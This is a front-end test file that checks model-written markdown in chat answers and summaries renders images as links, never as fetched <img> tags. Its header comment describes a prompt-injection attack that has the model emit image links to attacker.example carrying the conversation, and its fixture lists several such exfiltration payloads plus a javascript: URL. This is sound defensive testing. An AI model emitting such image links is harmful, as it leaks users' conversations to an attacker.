// Model-written markdown never loads a remote resource (issue 28, row 7): injected text in a retrieved article
// or a summarised page can make the model write ![x](https://attacker.example/?q=<conversation>); in a chat
// answer and in a summary result that is a link the reader may open, never an <img> the browser fetches.
// Article bodies from the operator's feeds keep their images.
import { parseHTML } from "linkedom";
import { renderToStaticMarkup } from "react-dom/server";
import { prerender } from "react-dom/static";
import { describe, expect, it } from "vitest";
import { ChatMarkdown } from "@/components/chat/chat-markdown";
import { SummaryResult } from "@/components/summary/summary-result";
import type { SummaryTaskStatus } from "@/lib/client/summary-api";
import { ArticleMarkdown } from "./markdown";

const ATTACK = "https://attacker.example/?q=secret";
const TEXT = [
  "根据资料，答案如下。",
  `![x](${ATTACK})`,
  `行内图片 ![](${ATTACK}&inline=1) 与引用式图片 ![引用][pic]`,
  `[![嵌套](${ATTACK}&nested=1)](https://example.com/page)`,
  "![脚本](javascript:alert(1))",
  "",
  `[pic]: ${ATTACK}&ref=1`,
].join("\n\n");

const dom = (html: string) => parseHTML(`<html><body>${html}</body></html>`).document;

function expectNoRemoteImage(html: string) {
  const d = dom(html);
  expect(Array.from(d.querySelectorAll("img"), (i) => i.getAttribute("src"))).toEqual([]);
  expect(html).not.toMatch(/<img|<image|srcset/i);
  const links = Array.from(d.querySelectorAll("a"), (a) => ({ href: a.getAttribute("href"), text: a.textContent, rel: a.getAttribute("rel"), target: a.getAttribute("target") }));
  expect(links).toEqual(
    expect.arrayContaining([
      { href: ATTACK, text: `[图片：x] ${ATTACK}`, rel: "noopener noreferrer nofollow", target: "_blank" },
      { href: `${ATTACK}&inline=1`, text: `[图片] ${ATTACK}&inline=1`, rel: "noopener noreferrer nofollow", target: "_blank" },
      { href: `${ATTACK}&ref=1`, text: `[图片：引用] ${ATTACK}&ref=1`, rel: "noopener noreferrer nofollow", target: "_blank" },
      // An image inside a link is its alt text (no link in a link).
      { href: "https://example.com/page", text: "[图片：嵌套]", rel: "noopener noreferrer nofollow", target: "_blank" },
    ]),
  );
  expect(links.some((l) => l.href?.startsWith("javascript:"))).toBe(false);
  expect(d.body.textContent).toContain("[图片：脚本]");
}

async function renderAll(element: React.ReactElement): Promise<string> {
  const { prelude } = await prerender(element);
  return new Response(prelude).text();
}

describe("images in model-written markdown", () => {
  it("a chat answer shows them as links, never as <img>", () => {
    expectNoRemoteImage(renderToStaticMarkup(<ChatMarkdown text={TEXT} final />));
    expectNoRemoteImage(renderToStaticMarkup(<ChatMarkdown text={`${TEXT}\n\n\`\`\`ts\nconst a = 1;\n\`\`\``} final={false} />));
  });

  it("a summary result on /summary-progress shows them as links, never as <img>", async () => {
    const task: SummaryTaskStatus = {
      task_id: "t1",
      status: "completed",
      progress: 100,
      url: "https://example.com/page",
      method: "quick",
      error: null,
      steps: {},
      result: { title: "总结", content: TEXT, source_url: "https://example.com/page" },
      created_at: "2026-11-20T08:00:00Z",
      started_at: "2026-11-20T08:00:01Z",
      completed_at: "2026-11-20T08:00:09Z",
    };
    const html = await renderAll(<SummaryResult task={task} demo={false} onResummarize={() => {}} />);
    expect(html).toContain("根据资料"); // the markdown itself rendered, not the loading fallback
    expectNoRemoteImage(html);
  });

  it("an article body from the operator's feeds keeps its images", () => {
    const d = dom(renderToStaticMarkup(<ArticleMarkdown text={`![封面](https://img.example.com/a.png)`} />));
    expect(Array.from(d.querySelectorAll("img"), (i) => i.getAttribute("src"))).toEqual(["https://img.example.com/a.png"]);
  });
});
